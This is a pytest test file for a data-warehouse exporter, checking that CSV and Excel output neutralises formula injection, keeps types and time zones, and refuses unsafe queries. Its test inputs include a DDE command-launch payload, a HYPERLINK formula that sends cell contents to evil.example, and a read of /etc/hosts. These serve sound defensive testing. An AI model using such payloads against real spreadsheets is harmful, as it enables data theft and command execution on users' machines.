"""Exports: whole files or none, no formula in any cell, instants on a stated clock, limits told."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from openpyxl.utils.escape import unescape

from warehouse.errors import QuestionError
from warehouse.reading import workbook
from warehouse.reading.adhoc import run_query
from warehouse.reading.batches import Batches
from warehouse.reading.export import export
from warehouse.reading.workbook import sheet_names

ROOT = Path(__file__).parents[3]
HALF_WAY = "SELECT CASE WHEN n = 90000 THEN error('half-way') ELSE 'x' END AS x FROM range(100000) AS r(n)"
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "http://evil.example",
    "mailto:a@b.example",
    "internal:'Sheet2'!A1",
    "{=SUM(A1:A2)}",
    "plain; with, \"all\" 'quotes'",
    "control \x01\x0b characters",
    "_x0041_ looks like an escape",
    "两行\n文字",
    "-",
    "",
    "x" * 40_000,
    "😀" * 20_000,
]


def literal(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


HOSTILE_SQL = (
    "SELECT * FROM (VALUES "
    + ", ".join(f"({number}, {literal(text)})" for number, text in enumerate(HOSTILE))
    + ') AS t(n, "=title") ORDER BY n'
)
TYPES_SQL = """
    SELECT -1 AS "int", -2.5::DOUBLE AS "double", 'NaN'::DOUBLE AS "nan", 9007199254740993::BIGINT AS "big",
        -1.25::DECIMAL(9, 2) AS "decimal", 170141183460469231731687303715884105727::HUGEINT AS "huge", true AS "bool",
        NULL::VARCHAR AS "none", TIMESTAMPTZ '2026-07-01 12:00:00.5+00' AS "instant", DATE '2026-07-01' AS "day",
        TIMESTAMPTZ '1850-01-01 00:00:00+00' AS "old", ['=a', 'b'] AS "list", MAP {'k': '=v'} AS "map",
        INTERVAL (-1) DAY AS "interval", '\\x41'::BLOB AS "blob", TIME '10:00:00' AS "time"
"""


def sheets_of(path: Path) -> dict[str, list[list[Any]]]:
    book = openpyxl.load_workbook(path)
    return {page.title: [list(row) for row in page.iter_rows()] for page in book.worksheets}


def test_hostile_texts_are_texts_in_excel(published: Path, tmp_path: Path) -> None:
    (done,) = export(published, [HOSTILE_SQL], tmp_path / "out.xlsx")
    header, *rows = sheets_of(tmp_path / "out.xlsx")["query"]
    assert [cell.value for cell in header] == ["n", "=title"]
    assert all(cell.data_type == "s" for cell in header)
    for (number, cell), text in zip(rows, HOSTILE, strict=True):
        assert number.data_type == "n"
        assert cell.data_type in {"s", "n"} if text == "" else cell.data_type == "s"
        assert cell.hyperlink is None
        if len(text) < 20_000:
            assert unescape(cell.value or "") == text
        dangerous = text[:1] and text[0] in "=+-@\t\r\n＝＋－＠"
        assert bool(cell.quotePrefix) == bool(dangerous)
    assert rows[-2][1].value == "x" * 32_766 + "…"
    assert rows[-1][1].value.endswith("😀…")
    assert any("2 cells" in note for note in done.notes)


def test_hostile_texts_are_texts_in_csv(published: Path, tmp_path: Path) -> None:
    export(published, [HOSTILE_SQL], tmp_path / "out.csv")
    text = (tmp_path / "out.csv").read_bytes().decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
    assert header == ["n", "'=title"]
    assert [int(row[0]) for row in rows] == list(range(len(HOSTILE)))
    for row, wanted in zip(rows, HOSTILE, strict=True):
        assert row[1] in {wanted, f"'{wanted}"}
        assert not row[1].startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))


def test_types_in_excel(published: Path, tmp_path: Path) -> None:
    export(published, [TYPES_SQL], tmp_path / "out.xlsx", time_zone="Asia/Shanghai")
    pages = sheets_of(tmp_path / "out.xlsx")
    header, row = pages["query"]
    cells = {title.value: cell for title, cell in zip(header, row, strict=True)}
    values = {name: cell.value for name, cell in cells.items()}
    assert (values["int"], values["double"], values["decimal"], values["bool"]) == (-1, -2.5, -1.25, True)
    assert values["nan"] is values["none"] is None
    assert values["big"] == "9007199254740993"  # a double would end in 2
    assert values["huge"] == "170141183460469231731687303715884105727"
    assert values["instant"] == datetime(2026, 7, 1, 20, 0, 0, 500_000)
    assert values["day"] == datetime(2026, 7, 1)
    assert values["old"].startswith("1850-01-01 08:05")
    assert values["list"] == '["=a", "b"]'
    assert cells["interval"].data_type in {"s", "n"}
    about = {row[0].value: row[1].value for row in pages["about"]}
    assert about["time zone of instants"] == "Asia/Shanghai"
    assert about["rows of query"] == "1"


def test_types_in_csv(published: Path, tmp_path: Path) -> None:
    export(published, [TYPES_SQL], tmp_path / "out.csv", time_zone="America/St_Johns")
    header, row = list(csv.reader((tmp_path / "out.csv").read_text(encoding="utf-8-sig").splitlines()))
    values = dict(zip(header, row, strict=True))
    assert (values["int"], values["double"], values["decimal"]) == ("-1", "-2.5", "-1.25")
    assert (values["nan"], values["none"], values["bool"]) == ("", "", "true")
    assert values["big"] == "9007199254740993"
    assert values["instant"] == "2026-07-01 09:30:00.5-02:30"
    assert values["list"] == '["=a","b"]'
    assert values["map"] == '{"k":"=v"}'
    assert values["interval"] == "'-1 day"


def test_parquet_keeps_types_and_every_row(published: Path, tmp_path: Path) -> None:
    (done,) = export(published, ["cases"], tmp_path / "cases.parquet")
    wanted = run_query(published, "SELECT * FROM cases ORDER BY process, case_id")
    found = pq.read_table(tmp_path / "cases.parquet").sort_by([("process", "ascending"), ("case_id", "ascending")])
    assert found.column_names == wanted.column_names
    assert found.column("started_at").to_pylist() == wanted.column("started_at").to_pylist()
    assert found.column("segments").to_pylist() == wanted.column("segments").to_pylist()
    assert done.rows == (("cases", wanted.num_rows),)
    assert done.notes == ("instants in UTC",)


def test_several_tables(published: Path, tmp_path: Path) -> None:
    what = ["cases", "deviations", "SELECT 1 AS one -- and a comment;"]
    (done,) = export(published, what, tmp_path / "desk.xlsx")
    assert list(sheets_of(tmp_path / "desk.xlsx")) == ["cases", "deviations", "query_3", "about"]
    assert dict(done.rows)["query_3"] == 1
    for form in ("csv", "parquet", "xlsx"):
        export(published, what, tmp_path / form, form=form)  # type: ignore[arg-type]
        assert sorted(path.name for path in (tmp_path / form).iterdir()) == [
            f"cases.{form}",
            f"deviations.{form}",
            f"query_3.{form}",
        ]


def test_every_table_goes_into_every_form(published: Path, tmp_path: Path) -> None:
    tables = [row["name"] for row in run_query(published, "SHOW TABLES").to_pylist()]
    for form in ("csv", "parquet", "xlsx"):
        done = export(published, tables, tmp_path / form, form=form)  # type: ignore[arg-type]
        counts = {each.rows[0][0]: each.rows[0][1] for each in done}
        for table in tables:
            (row,) = run_query(published, f"SELECT count(*) AS n FROM {table}").to_pylist()
            assert counts[table] == row["n"], (form, table)


@pytest.mark.parametrize(
    ("what", "name", "told"),
    [
        (["case"], "out.csv", "no table 'case'.*Did you mean 'cases'"),
        (["cases", "SELECT wrong FROM cases", "nothing"], "out.xlsx", "(?s)wrong.*no table 'nothing'"),
        (["SELECT 1; SELECT 2"], "out.csv", "2 statements"),
        (["DROP TABLE cases"], "out.csv", "is not a query"),
        (["SELECT * FROM read_csv('/etc/hosts')"], "out.csv", "disabled by configuration"),
        (["COPY cases TO '/tmp/x.csv' "], "out.csv", "is not a query"),
        (["cases"], "out.pdf", "names no form"),
        (["cases", "deviations"], "out.csv", "don't go into one .csv"),
        (["cases"], "missing/out.csv", "can't be written"),
    ],
)
def test_what_cannot_be_exported_is_told(
    published: Path, tmp_path: Path, what: list[str], name: str, told: str
) -> None:
    with pytest.raises(QuestionError, match=told):
        export(published, what, tmp_path / name)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("name", ["out.csv", "out.parquet", "out.xlsx"])
def test_no_file_is_overwritten_unasked(published: Path, tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_text("mine", encoding="utf-8")
    with pytest.raises(QuestionError, match="there already"):
        export(published, ["cases"], tmp_path / name)
    assert (tmp_path / name).read_text(encoding="utf-8") == "mine"
    export(published, ["cases"], tmp_path / name, force=True)
    assert (tmp_path / name).stat().st_size > 500


@pytest.mark.parametrize("name", ["out.csv", "out.parquet", "out.xlsx"])
def test_a_query_that_fails_half_way_leaves_nothing(published: Path, tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_text("of yesterday", encoding="utf-8")
    with pytest.raises(QuestionError, match="half-way"):
        export(published, [HALF_WAY], tmp_path / name, force=True)
    assert [path.name for path in tmp_path.iterdir()] == [name]
    assert (tmp_path / name).read_text(encoding="utf-8") == "of yesterday"


def test_a_query_whose_failure_is_overtaken_by_the_end_of_its_other_threads_tells_the_failure(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    asked = Batches._asked
    readers = 0

    def interrupted() -> Iterator[pa.RecordBatch]:
        raise OSError("INTERRUPT Error: Interrupted!")
        yield

    def overtaken(batches: Batches) -> pa.RecordBatchReader:
        nonlocal readers
        readers += 1
        reader = asked(batches)
        return pa.RecordBatchReader.from_batches(reader.schema, interrupted()) if readers <= 2 else reader

    monkeypatch.setattr(Batches, "_asked", overtaken)
    with duckdb.connect() as connection, pytest.raises(QuestionError, match="half-way") as told:
        list(Batches(connection, HALF_WAY))
    assert "can't be written" not in str(told.value)
    assert readers == 3


def test_more_rows_than_excel_takes_are_told(published: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook, "MOST_ROWS", 1_001)
    export(published, ["SELECT n FROM range(1000) AS r(n)"], tmp_path / "most.xlsx")
    assert len(sheets_of(tmp_path / "most.xlsx")["query"]) == 1_001
    with pytest.raises(QuestionError, match="more rows than a sheet of Excel takes"):
        export(published, ["SELECT n FROM range(1001) AS r(n)"], tmp_path / "more.xlsx")
    assert not (tmp_path / "more.xlsx").exists()


def test_names_of_sheets() -> None:
    names = sheet_names(["a/b", "A_B", "history", "x" * 40, "x" * 40 + "y", "'quoted'", "[1]:*?", ""])
    assert names == ["a_b", "A_B_2", "history_2", "x" * 31, "x" * 29 + "_2", "quoted", "_1____", "sheet"]
    assert all(len(name) <= 31 for name in names)


SMALL = """
import re, sys
from pathlib import Path
from warehouse.reading.export import export
sql = "SELECT n, 'a text of some length ' || n AS t FROM range({rows}) AS r(n)"
export(sys.argv[1], [sql], Path(sys.argv[2]))
print(re.search(r"VmHWM:\\s+(\\d+)", Path("/proc/self/status").read_text())[1])
"""


@pytest.mark.parametrize(("name", "rows"), [("out.csv", 4_000_000), ("out.parquet", 4_000_000), ("out.xlsx", 100_000)])
def test_memory_does_not_grow_with_the_rows(published: Path, tmp_path: Path, name: str, rows: int) -> None:
    grown = []
    for number, count in enumerate((rows // 10, rows)):
        target = tmp_path / f"{number}{name}"
        code = SMALL.format(rows=count)
        done = subprocess.run(
            [sys.executable, "-c", code, str(published), str(target)],
            cwd=ROOT,
            capture_output=True,
            text=True,
            check=True,
        )
        grown.append(int(done.stdout) / 1024)
    assert grown[1] < grown[0] + 100, grown  # megabytes; the rows alone are 160


def test_the_instant_of_publication_stands_in_the_workbook(demo_night: Path, tmp_path: Path) -> None:
    snapshot = demo_night / "published" / "asrun.duckdb"
    export(snapshot, ["headlines"], tmp_path / "out.xlsx")
    about = {row[0].value: row[1].value for row in sheets_of(tmp_path / "out.xlsx")["about"]}
    assert about["snapshot published"].startswith(f"{datetime.now(UTC):%Y}")
    assert date.fromisoformat(about["snapshot published"][:10])
